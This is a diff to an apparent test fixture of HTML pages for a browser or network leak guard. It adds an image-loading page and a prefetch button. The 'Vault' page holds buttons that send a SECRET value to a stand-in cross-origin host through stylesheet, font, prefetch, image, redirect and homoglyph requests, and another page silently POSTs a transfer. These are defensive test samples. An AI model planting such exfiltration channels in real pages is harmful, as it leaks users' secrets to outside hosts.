@@ -130,6 +130,13 @@ window.loaded = Promise.all(Array.from({length: 40}, (_, i) => fetch('/api/items
 for (let i = 0; i < 40; i++) { const img = new Image(); img.src = '/img/' + i + '.gif?v=' + i; document.body.append(img); }
 for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src = '/p/frame-inner?' + i; document.body.append(f); }
 </script>""",
+    "pictures": """<title>Pictures</title><h1>Pictures</h1>
+<script>
+const settled = (src) => new Promise((done) => { const img = new Image(); img.onload = img.onerror = () => done(1);
+  img.src = src; document.body.append(img); });
+window.loaded = Promise.all(Array.from({length: 40}, (_, i) => [settled('/img/' + i + '.gif?v=' + i),
+  settled('CROSS/img/' + i + '.gif?v=' + i)]).flat()).then((all) => all.length / 2);
+</script>""",
     "eager-frame": """<title>Eager</title><p>frame</p>
 <script>fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=7'});</script>""",
     "frame-inner": """<title>Inner</title><p>frame</p>
@@ -160,6 +167,8 @@ PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recover
 <button id="style" onclick="const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CROSS/st.css?d={SECRET}';
   document.head.append(l); out('styled')">Theme</button>
 <button id="font" onclick="new FontFace('f', 'url(CROSS/f.woff?d={SECRET})').load().catch(() => {{}}); out('fonted')">Font</button>
+<button id="prefetch" onclick="const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'CROSS/pf?d={SECRET}';
+  document.head.append(l); out('prefetched')">Soon</button>
 <button id="img-hop" onclick="new Image().src = '/redirect?to=CROSS/r/{SECRET}'; out('drawn')">Hop</button>
 <button id="img-homoglyph" onclick="new Image().src = 'CROSS/px.gif?d={HOMOGLYPH_SECRET}'; out('drawn')">Look</button>
 <button id="img-plain" onclick="new Image().src = 'CROSS/px.gif?e=view&t=' + Date.now(); out('drawn')">Count</button>
